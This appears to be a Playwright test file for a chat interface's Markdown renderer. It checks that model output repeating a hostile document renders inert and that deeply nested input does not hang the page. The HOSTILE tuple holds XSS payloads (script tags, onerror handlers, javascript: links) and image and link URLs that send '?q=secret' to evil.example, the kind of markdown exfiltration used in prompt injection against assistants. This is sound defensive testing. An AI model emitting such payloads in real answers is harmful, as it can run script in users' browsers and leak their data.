"""A model's Markdown on the chat page: whatever it repeats of a hostile document is harmless."""

import pytest
from playwright.async_api import FilePayload, expect

from tests.pages.conftest import Opening, ask
from tests.upstream import Upstream, llama_says

pytestmark = pytest.mark.asyncio(loop_scope="session")


HOSTILE = (
    "Look: <script>window.harmed = 1</script> <img src=x onerror='window.harmed = 2'> ",
    "![a picture](http://evil.example/pixel.png?q=secret) ![ref][p] ",
    "<iframe src='//evil.example'></iframe> [a link](javascript:window.harmed=3) ",
    "[another](http://evil.example/?q=secret) <http://evil.example/x> ",
    "<a href='http://evil.example/raw' onclick='window.harmed=4'>raw</a> ",
    "<svg><a xlink:href='javascript:window.harmed=5'>svg</a></svg> <style>body{}</style> ",
    "[data](data:text/html,<script>x</script>) http://evil.example/bare [1]\n\n",
    "<form action='/x'><img src='http://evil.example/block.png'>\n</form>\n\n",
    "[p]: http://evil.example/reference.png\n[1]: http://evil.example/instead-of-a-source\n\n",
    "the end",
)


async def test_row_4_hostile_markdown_is_harmless(opening: Opening, upstream: Upstream) -> None:
    upstream.llama(llama_says(*HOSTILE))
    async with opening() as page:
        requested: list[str] = []
        page.on("request", lambda request: requested.append(request.url))
        answer = await ask(page)
        await expect(answer).to_contain_text("the end")
        await expect(answer).to_contain_text("a picture")
        await expect(answer).to_contain_text("[another] (http:/ /evil.example/?q=secret)")
        await expect(
            answer.locator("a, img, iframe, script, style, form, svg, math")
        ).to_have_count(0)
        assert await page.evaluate("window.harmed") is None
        assert [url for url in requested if "evil" in url] == []


async def test_row_4_no_part_of_hostile_markdown_is_active_wherever_it_is_cut(
    opening: Opening,
) -> None:
    async with opening() as page:
        active = await page.evaluate(
            """async (text) => {
                const { rendered } = await import("/static/markdown.js");
                const found = [];
                for (let end = 0; end <= text.length; end++) {
                    const part = document.createElement("div");
                    part.append(rendered(text.slice(0, end), [], () => ""));
                    document.body.append(part);
                    if (part.querySelector("a, img, iframe, script, style, form, svg, button"))
                        found.push(text.slice(0, end));
                    part.remove();
                }
                return found;
            }""",
            "".join(HOSTILE),
        )
        assert active == []
        assert await page.evaluate("window.harmed") is None


async def test_row_4_a_source_s_own_address_is_a_link(opening: Opening, upstream: Upstream) -> None:
    law = "---\nuri: https://law.example/PP-28?a=1&b=2\n---\n# Kites\n\nKites need a permit.\n"
    file: FilePayload = {"name": "kites.md", "mimeType": "text/markdown", "buffer": law.encode()}
    upstream.llama(llama_says("See [the law](https://law.example/PP-28?a=1&b=2)."))
    async with opening() as page:
        stored = await page.request.post("/documents", multipart={"file": file})
        assert stored.ok
        link = (await ask(page, "Do kites need a permit?")).get_by_role("link", name="the law")
        await expect(link).to_have_attribute("rel", "noopener noreferrer")
        await expect(link).to_have_attribute("target", "_blank")
        assert (await page.request.delete("/documents/kites")).ok


DEEP = {
    "quotes": "> " * 10_000,
    "quotes without spaces": ">" * 10_000,
    "numbers": "1. " * 10_000,
    "lists in quotes": "> - " * 5_000,
    "indented lists": "\n".join(f"{'  ' * n}- a" for n in range(3_000)),
    "brackets": "[" * 10_000,
    "pictures": "![" * 10_000,
    "closed brackets": "[" * 10_000 + "]" * 10_000,
    "asterisks": "*" * 10_000,
    "closed asterisks": "*" * 10_000 + "a" + "*" * 10_000,
    "emphasis": "*a **b " * 5_000 + "a* b** " * 5_000,
    "mixed emphasis": "*_" * 10_000 + "a" + "_*" * 10_000,
    "emphasis over lines": "*a\n**b\n" * 5_000 + "a*\nb**\n" * 5_000,
    "tags": "<a " * 10_000,
    "table": "|a" * 10_000 + "\n" + "|-" * 10_000 + "\n" + "|a" * 10_000,
    "bold words": "**a** " * 100_000,
}


@pytest.mark.parametrize("text", DEEP.values(), ids=DEEP)
async def test_row_39_no_answer_stops_the_page(text: str, opening: Opening) -> None:
    async with opening() as page:
        shown = await page.evaluate(
            """async (text) => {
                const { rendered } = await import("/static/markdown.js");
                const part = document.createElement("div");
                part.append(rendered(text + "\\n\\nthe end [1]", [{ n: 1 }], () => "cited"));
                return part.textContent;
            }""",
            text,
        )
    assert "the end" in shown
    assert "cited" in shown


async def test_row_39_an_answer_too_deep_is_shown_as_text_as_it_comes(
    opening: Opening, upstream: Upstream
) -> None:
    upstream.llama(llama_says(*["> " * 100] * 100, "the end"), llama_says("**Well**"))
    async with opening() as page:
        await expect(await ask(page)).to_contain_text("> the end")
        answer = await ask(page)
        await expect(answer.locator("strong")).to_have_text("Well")


async def test_an_ordinary_answer_is_nested_as_it_says(opening: Opening) -> None:
    nested = "> 1. *a **b***\n>\n>    - c\n>      - d `__x__ *y*`\n\nsnake_case_words, 2 * 3 * 4"
    async with opening() as page:
        found = await page.evaluate(
            """async (text) => {
                const { rendered } = await import("/static/markdown.js");
                const part = document.createElement("div");
                part.append(rendered(text, [], () => ""));
                return [...part.querySelectorAll("blockquote, ol, ul, em, strong, code")].map(
                    (element) => element.localName);
            }""",
            nested + "\n\n- **a** *b* __c__\n" * 200,
        )
    assert found[:7] == ["blockquote", "ol", "em", "strong", "ul", "ul", "code"]
    assert len(found) > 600
